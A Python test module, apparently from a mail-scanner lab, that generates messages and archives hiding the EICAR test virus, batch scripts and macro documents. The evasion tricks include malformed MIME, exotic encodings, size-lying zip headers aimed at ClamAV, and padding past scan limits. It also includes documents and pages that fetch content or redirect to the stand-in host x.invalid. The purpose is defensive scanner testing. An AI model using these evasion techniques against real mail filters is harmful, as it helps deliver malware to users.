"""The same forbidden things, said in every other way that MIME, mail programs and archives allow (RFC 2045 to 2047, 2231).

A scanner that reads a message differently from the program that opens it is no scanner: each of these is opened as a
program by some mail program or archiver, and all must be refused.
"""

from __future__ import annotations

import base64
import binascii
import bz2
import gzip
import lzma
import struct
import tarfile
import tomllib
import zipfile
from collections.abc import Callable
from email.utils import formatdate, make_msgid
from pathlib import Path

from outpost_lab.attack import content

SCRIPT = b"@echo off\r\n"
CUT = 'Content-Type: multipart/mixed; boundary="cut"'


def _encoded(data: bytes) -> str:
    return base64.encodebytes(data).decode().replace("\n", "\r\n")


def _written(kind: str, body: str) -> bytes:
    return (
        f"From: x@attacker.hostile.test\r\nSubject: papers\r\nDate: {formatdate()}\r\n"
        f"Message-ID: {make_msgid(domain='attacker.hostile.test')}\r\nMIME-Version: 1.0\r\n{kind}\r\n\r\n{body}"
    ).encode()


def _mixed(part: str, kind: str = CUT, boundary: str = "cut", end: str | None = None) -> bytes:
    closing = f"--{boundary}--\r\n" if end is None else end
    text = f"--{boundary}\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n"
    return _written(kind, f"{text}--{boundary}\r\n{part}\r\n{closing}")


def _part(disposition: str, data: bytes, kind: str = "application/octet-stream") -> str:
    return _encoded_part(disposition, "base64", _encoded(data), kind)


def _encoded_part(disposition: str, encoding: str, body: str, kind: str = "application/octet-stream") -> str:
    head = f"Content-Type: {kind}\r\nContent-Disposition: {disposition}\r\n"
    return f"{head}Content-Transfer-Encoding: {encoding}\r\n\r\n{body}"


def names() -> dict[str, bytes]:
    """A script whose name hides what it is."""
    said = tomllib.loads(Path(__file__).with_name("names.toml").read_text(encoding="utf-8"))
    made = {name: _mixed(_part(disposition, SCRIPT)) for name, disposition in said.items()}
    kind = 'application/octet-stream; name="invoice.bat"'
    made["in Content-Type only"] = _mixed(_part('attachment; filename="invoice.pdf"', SCRIPT, kind))
    made["described only"] = _mixed(_part("attachment\r\nContent-Description: invoice.bat", SCRIPT))
    made["no ending, but a type"] = _mixed(_part('attachment; filename="invoice"', SCRIPT, "application/hta"))
    made["no name, but a type"] = _mixed(_part("attachment", SCRIPT, "application/hta"))
    acting = b"<svg xmlns='http://www.w3.org/2000/svg'><script>location='http://x.invalid'</script></svg>"
    made["a drawing that acts"] = _mixed(_part('inline; filename="logo.svg"', acting, "image/svg+xml"))
    made["a page that acts"] = _mixed(_part('inline; filename="invoice.html"', acting, "text/html"))
    return made


def _uuencoded(name: str, data: bytes) -> str:
    lines = (binascii.b2a_uu(data[at : at + 45]).decode().rstrip("\n") for at in range(0, len(data), 45))
    return f"begin 644 {name}\r\n" + "\r\n".join(lines) + "\r\n`\r\nend\r\n"


def structures() -> dict[str, bytes]:
    """The test virus, or a script, in a message that is put together oddly."""
    virus = content.eicar()
    part = _part('attachment; filename="a.bin"', virus)
    text = base64.b64encode(virus).decode()
    inner = _mixed(part, 'Content-Type: multipart/mixed; boundary="in"', "in")
    within, plain = "Content-Type: message/rfc822", "Content-Type: text/plain"
    elsewhere = 'Content-Type: message/external-body; access-type=URL; URL="http://x.invalid/a"'
    in_base64, whole = "Content-Transfer-Encoding: base64", f"--cut\r\n{part}\r\n--cut--\r\n"
    uuencoded, script = _uuencoded("a.bin", virus), _uuencoded("a.bat", SCRIPT)
    halves = "".join(f"{base64.b64encode(half).decode()}\r\n" for half in (virus[:20], virus[20:]))
    hexadecimal = "".join(f"={octet:02X}" for octet in virus)
    lines = "=\r\n".join(hexadecimal[at : at + 72] for at in range(0, len(hexadecimal), 72))

    def encoded(encoding: str, body: str) -> bytes:
        return _mixed(_encoded_part('attachment; filename="a.bin"', encoding, f"{body}\r\n"))

    def typed(*lines: str) -> bytes:
        return _mixed(part, "\r\n".join(f"Content-Type: {line}" for line in lines))

    return {
        "no end": _mixed(part, end=""),
        "boundary in pieces": typed('multipart/mixed; boundary*0="cu"; boundary*1="t"'),
        "two boundaries": typed('multipart/mixed; boundary="foo"; boundary="cut"'),
        "empty boundary": _mixed(part, 'Content-Type: multipart/mixed; boundary=""', ""),
        "two types": typed("text/plain", 'multipart/mixed; boundary="cut"'),
        "two types turned round": typed('multipart/mixed; boundary="cut"', "text/plain"),
        "no MIME-Version": _mixed(part).replace(b"MIME-Version: 1.0\r\n", b""),
        "unknown multipart": typed('multipart/x-any; boundary="cut"'),
        "behind the end": _written(CUT, f"--cut\r\n\r\nx\r\n--cut--\r\n--cut\r\n{part}\r\n--cut--\r\n"),
        "before the beginning": _written(CUT, f"{uuencoded}\r\n--cut\r\n\r\nx\r\n--cut--\r\n"),
        "a message within": _mixed(f"{within}\r\n\r\n{inner.decode()}"),
        "a message within, encoded": _mixed(f"{within}\r\n{in_base64}\r\n\r\n{_encoded(inner)}"),
        "a message as a file": _mixed(_part('attachment; filename="x.eml"', inner)),
        "a piece of a message": _written('Content-Type: message/partial; id="x"; number=1; total=2', part),
        "a part elsewhere": _mixed(f"{elsewhere}\r\n\r\n"),
        "uuencoded in the text": _written(plain, f"See below.\r\n{script}"),
        "x-uuencode": encoded("x-uuencode", uuencoded),
        "two encodings": encoded("7bit\r\nContent-Transfer-Encoding: base64", _encoded(virus).rstrip()),
        "encoding with a comment": encoded("base64 (as usual)", text),
        "base64 with junk": encoded("base64", "!".join(text)),
        "base64 in two": encoded("base64", halves),
        "one letter a line": encoded("base64", "\r\n".join(text)),
        "all octets quoted": encoded("quoted-printable", lines),
        "blanks behind soft breaks": encoded("quoted-printable", lines.replace("=\r\n", "= \t\r\n")),
        "a multipart that few know": typed('multipart/parallel; boundary="cut"'),
        "encoded as a whole": _written(f"{CUT}\r\n{in_base64}", _encoded(whole.encode())),
        "uuencoded, wide": _written(plain, script.replace("begin 644 ", "begin\t644  ")),
        "uuencoded, UTF-16": _written(
            f"{plain}; charset=utf-16le\r\n{in_base64}", _encoded(script.encode("utf-16-le"))
        ),
        "uuencoded, five digits": _written(plain, script.replace("begin 644 ", "begin 00644 ")),
        "a program as text": _mixed(f"{plain}\r\n{in_base64}\r\n\r\n{_encoded(content.program())}"),
        "a program as a picture": _mixed(_part('inline; filename="a.jpg"', content.program(), "image/jpeg")),
    }


def _tar(files: dict[str, bytes]) -> bytes:
    return gzip.decompress(content.tar_gz(files))


def wrappings() -> dict[str, bytes]:
    """A program, script, shortcut, macro or the test virus in archives that lie about themselves or that few can open."""
    virus, archive = content.eicar(), content.zipped({"run.bat": SCRIPT})
    by_lzma = content.zipped({"a.txt": virus}, zipfile.ZIP_LZMA)
    in_unicode = content.renamed_zip("a.txt", "run.bat", SCRIPT)
    locked = content.zipped({"c.zip": content.encrypted_zip("a.txt", b"x" * 40)})
    message = _mixed(_part('attachment; filename="run.bat"', SCRIPT))
    central = archive.find(b"PK\1\2")
    harmless = content.zipped({"a.txt": b"x"})
    tar = _tar({"run.bat": SCRIPT})
    macros, winmail = content.macro_document(), content.tnef("run.bat", SCRIPT, long=True)
    files: dict[str, tuple[str, bytes]] = {
        "gz": ("a.gz", gzip.compress(virus)),
        "bz2": ("a.bz2", bz2.compress(virus)),
        "xz": ("a.xz", lzma.compress(virus)),
        "lzma": ("a.dat", lzma.compress(virus, format=lzma.FORMAT_ALONE)),
        "a program, gz": ("a.gz", gzip.compress(content.program())),
        "tar": ("a.tar", tar),
        "tar.xz": ("a.tar.xz", lzma.compress(tar)),
        "tar.gz in zip": ("a.zip", content.zipped({"a.tgz": gzip.compress(tar)})),
        "zip as a document": ("a.docx", archive),
        "zip behind junk": ("a.zip", b"junk" * 50 + archive),
        "zip before junk": ("a.zip", archive + b"junk" * 50),
        "two names, one harmless": ("a.zip", archive[:central] + archive[central:].replace(b".bat", b".txt")),
        "two names, the other": ("a.zip", archive[:central].replace(b".bat", b".txt") + archive[central:]),
        "two archives in one": ("a.zip", archive + harmless),
        "two archives, turned round": ("a.zip", harmless + archive),
        "zip without its directory": ("a.zip", archive[:central]),
        "zip with its directory cut": ("a.zip", harmless[:-30]),
        "four deep": ("a.zip", content.nested(4, SCRIPT, "run.bat")),
        "blank behind the name": ("a.zip", content.zipped({"run.bat ": SCRIPT})),
        "backslashes": ("a.zip", content.zipped({"x\\run.bat": SCRIPT})),
        "a program under another name": ("a.zip", content.zipped({"a.pdf": content.program()})),
        "a shortcut under another name": ("a.zip", content.zipped({"a.pdf": content.shortcut()})),
        "a disk image under another name": ("a.zip", content.zipped({"a.dat": content.disk_image()})),
        "RAR under another name": ("a.zip", content.zipped({"a.dat": content.rar("x.txt", b"x")})),
        "7z": ("a.dat", bytes.fromhex("377abcaf271c0004") + bytes(100)),
        "cabinet": ("a.dat", b"MSCF" + bytes(100)),
        "zstandard": ("a.dat", bytes.fromhex("28b52ffd") + bytes(60)),
        "virtual disk": ("a.dat", b"vhdxfile" + bytes(60)),
        "notebook": ("a.dat", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(60)),
        "macros without the name": ("a.xlsx", macros),
        "macros in zip": ("a.zip", content.zipped({"a.docx": macros})),
        **{f"macros in {name}": (name, data) for name, data in content.macros_elsewhere().items()},
        "macros in odt in zip": ("a.zip", content.zipped(content.macros_elsewhere())),
        "a password on a document": ("a.docx", content.locked_document()),
        "zip by LZMA": ("a.zip", by_lzma),
        "zip by LZMA in zip": ("a.zip", content.zipped({"b.zip": by_lzma})),
        "zip with a name in Unicode": ("a.zip", in_unicode),
        "zip with a name in Unicode in zip": ("a.zip", content.zipped({"b.zip": in_unicode})),
        "a message in zip": ("a.zip", content.zipped({"x.eml": message})),
        "Outlook's message": ("a.msg", content.outlook("run.bat")),
        "Outlook's message, 8 bits": ("a.msg", content.outlook("run.bat", "latin-1")),
        "zip of one volume": ("a.zip", b"PK00" + archive),
        "bz2 of two streams": ("a.dat", bz2.compress(b"x") + bz2.compress(virus)),
        "packed by itself in zip": ("a.zip", content.zipped({"run.bat.gz": gzip.compress(SCRIPT)})),
        "winmail.dat": ("winmail.dat", content.tnef("run.bat", SCRIPT)),
        "winmail.dat, long name": ("winmail.dat", winmail),
        "winmail.dat in zip": ("a.zip", content.zipped({"winmail.dat": winmail})),
        "a password, three deep": ("a.zip", content.zipped({"b.zip": locked})),
    }
    attached = {name: (f'attachment; filename="{file}"', data) for name, (file, data) in files.items()}
    return {name: _mixed(_part(*part)) for name, part in attached.items()}


PADDING = 70 * 2**20
"""More than a scanner that is set to the largest message reads of one file."""


def _padded() -> bytes:
    return bytes(PADDING) + content.eicar()


def _lying(archive: bytes, size: int) -> bytes:
    """A zip archive of one member that declares another size, in both places (APPNOTE.TXT, sections 4.3.7 and 4.3.12)."""
    made = bytearray(archive)
    struct.pack_into("<I", made, 22, size)
    struct.pack_into("<I", made, archive.rfind(b"PK\1\2") + 24, size)
    return bytes(made)


PADDED: dict[str, Callable[[], bytes]] = {
    "a.zip": lambda: content.zipped({"a.dat": _padded()}),
    "lies.zip": lambda: _lying(content.zipped({"a.dat": _padded()}), 80_000),
    "a.tar.gz": lambda: content.tar_gz({"a.zip": content.zipped({"a.dat": _padded()})}),
    "a.gz": lambda: gzip.compress(_padded(), 1),
    "a.pdf": lambda: content.pdf_with(_padded()),
    "a.docx": lambda: content.zipped({"word/document.xml": b"<x/>", "word/embeddings/a.dat": _padded()}),
    "many.zip": lambda: content.zipped(
        {f"{at}.dat": bytes(PADDING) for at in range(9)} | {"a.dat": _padded()}
    ),
}
"""The test virus behind many zeros, by the name of a file; made when asked for, for they take a second each."""


def _before(
    archive: bytes, packed: int, unpacked: int | None = None, *, hidden: bool = False, later: bool = False
) -> bytes:
    """A zip archive that declares other sizes before its first member than in its directory, which users' programs read."""
    made = bytearray(archive)
    made[6] |= 8 * later
    made[7] |= 0x20 * hidden
    struct.pack_into("<I", made, 18, packed)
    if unpacked is not None:
        struct.pack_into("<I", made, 22, unpacked)
    return bytes(made)


def _odd_tar(data: bytes, pax: bool) -> bytes:
    """A tar archive with one member, whose size is where few look: in a record of its own, or in base 256."""
    member = tarfile.TarInfo("a.zip")
    member.pax_headers = {"size": str(len(data))} if pax else {}
    made = member.tobuf(tarfile.PAX_FORMAT)
    if not pax:
        made = _sized_tar(made, b"\x80" + len(data).to_bytes(11, "big"))
    return made + data + bytes(-len(data) % 512 + 1024)


def _sized_tar(archive: bytes, size: bytes) -> bytes:
    """A tar archive whose first header has this in its field for the size, and the right checksum."""
    made = bytearray(archive)
    made[124:136], made[148:156] = size, b" " * 8
    made[148:156] = b"%06o\0 " % sum(made[:512])
    return bytes(made)


def _in_sectors(data: bytes) -> bytes:
    return data + bytes(-len(data) % 512)


def lying() -> dict[str, dict[str, bytes]]:
    """The test virus in archives that declare other sizes than they have: ClamAV reads by one declaration, programs by the other."""
    archive = content.zipped({"a.txt": content.eicar() * 3})
    stored = content.zipped({"a.zip": archive}, zipfile.ZIP_STORED)
    more, half = _before(archive, len(archive) + 1000), _before(archive, 20)
    message = _mixed(_part('attachment; filename="a.zip"', half))
    files = {
        "nothing before the member": _before(archive, 0),
        "no sizes before the member": _before(archive, 0, 0),
        "no sizes before what is stored": _before(stored, 0, 0),
        "sizes as zip64 has them": _before(archive, 2**32 - 1, 2**32 - 1),
        "sizes of zip64 and others behind": _before(archive, 2**32 - 1, 2**32 - 1, later=True),
        "more than there is": more,
        "half": half,
        "hidden sizes": _before(archive, len(archive) - 110, hidden=True),
        "more than there is, in zip": content.zipped({"b.zip": more}),
        "half, three deep": content.zipped({"c.zip": content.zipped({"b.zip": half})}),
        "zip64, gz": gzip.compress(_before(archive, 2**32 - 1)),
        "half, gz": gzip.compress(half),
        "half, xz": lzma.compress(half),
        "half, bz2": bz2.compress(half),
        "half, tar": _tar({"a.zip": half}),
        "half, tar.gz": content.tar_gz({"a.zip": half}),
        "half, in a PDF": content.pdf_with(half),
        "half, in a message": message,
        "half, in a message in zip": content.zipped({"x.eml": message}),
        "half, in a document in tar.gz": content.tar_gz({"a.docx": content.zipped({"word/a.zip": half})}),
        "half, behind a picture": b"GIF89a" + bytes(100) + half,
        "more than there is, tar.gz": content.tar_gz({"a.zip": more}),
        "sizes behind, all behind a picture": b"GIF89a" + bytes(100) + _before(archive, 0, 0, later=True),
        "a mark of a volume, gz": gzip.compress(b"PK00" + half),
        # lengths as OLE's sectors have them
        "half, and octets behind": _in_sectors(half),
        "half, and octets behind, gz": gzip.compress(_in_sectors(half)),
        "half, and octets behind, tar.gz": content.tar_gz({"b.zip": _in_sectors(half)}),
        "half, and octets behind a picture": _in_sectors(b"GIF89a" + bytes(100) + half),
        "half, behind a mark of PDF": b"%PDF-1.4\n" + half,
        "sizes behind, all behind a mark of PDF": b"%PDF-1.4\n" + _before(archive, 0, 0, later=True) + b"xx",
    }
    tars = {f"tar, {'a record' if pax else 'base 256'}": _odd_tar(archive, pax) for pax in (True, False)}
    tars["tar, 8 GiB"] = _sized_tar(
        _tar({"a.zip": archive}), b"77777777777\0"
    )  # archivers unpack what there is
    zips = {name: {"a.zip": data} for name, data in files.items()}
    return zips | {name: {"a.tar": data} for name, data in tars.items()}


def _related(kind: str, target: str) -> bytes:
    """A Word document with a relationship to something elsewhere (ECMA-376, part 2, section 6.5)."""
    types = "http://schemas.openxmlformats.org"
    relation = (
        f'<Relationships xmlns="{types}/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{types}/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return content.zipped({"word/document.xml": b"<x/>", "word/_rels/settings.xml.rels": relation.encode()})


def documents() -> dict[str, bytes]:
    """Documents that fetch a program or carry one as an object."""
    return {
        "template.docx": _related("attachedTemplate", "http://x.invalid/a.dotm"),
        "share.docx": _related("attachedTemplate", "\\\\x.invalid\\a.dotm"),
        "object.docx": _related("oleObject", "mhtml:http://x.invalid/a!x"),
        "object.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}",
        "template.rtf": b"{\\rtf1{\\*\\template http://x.invalid/a}}",
    }


def pages() -> dict[str, bytes]:
    """Pages that act when they are opened, not attached but shown (RFC 2183, section 2.1)."""
    script, xhtml = (
        "<html><script>location='http://x.invalid'</script></html>",
        "http://www.w3.org/1999/xhtml",
    )
    said = {
        "onload": ("a.html", "text/html", b"<html><body onload='x()'>"),
        "onload behind a slash": ("a.html", "text/html", b"<svg/onload=x()>"),
        "a page within": ("a.html", "text/html", b'<iframe srcdoc="&lt;script&gt;">'),
        "UTF-16": ("a.html", "text/html", script.encode("utf-16")),
        "another type": ("a.xht", "application/octet-stream", script.encode()),
        "XML": ("a.xml", "application/xml", f'<x xmlns:h="{xhtml}"><h:script>x()</h:script></x>'.encode()),
        "UTF-7": ("a.html", "text/html; charset=utf-7", b"+ADw-script+AD4-x()"),
        "EBCDIC": ("a.html", "text/html; charset=cp037", script.encode("cp037")),
        "a page elsewhere": ("a.html", "text/html", b"<iframe src='http://x.invalid/'>"),
        "a page in a link": ("a.html", "text/html", b"<object data='data:text/html;base64,PHNjcmlwdD4='>"),
        "letters by number": ("a.html", "text/html", b"<a href='java&#x73;cri\tpt&colon;x()'>x</a>"),
        "a letter by its decimal number": ("a.html", "text/html", b"<a href='&#106avascript:x()'>x</a>"),
        "a line's end by its name": ("a.html", "text/html", b"<a href='java&NewLine;script:x()'>x</a>"),
        "a name for letters": (
            "a.svg",
            "image/svg+xml",
            b"<!DOCTYPE svg [<!ENTITY a 'java'>]><svg><a href='&a;script:x()'/></svg>",
        ),
        "another type of drawing": ("a", "application/svg+xml", b"<svg onload='x()'/>"),
        "set later": ("a.svg", "image/svg+xml", b"<svg><set attributeName='onload' to='x()'/></svg>"),
        "XSL": ("a.xsl", "text/xml", b"<xsl:stylesheet><msxsl:script>x()</msxsl:script></xsl:stylesheet>"),
    }
    shown = {what: (f'inline; filename="{name}"', data, kind) for what, (name, kind, data) in said.items()}
    return {what: _mixed(_part(*part)) for what, part in shown.items()}
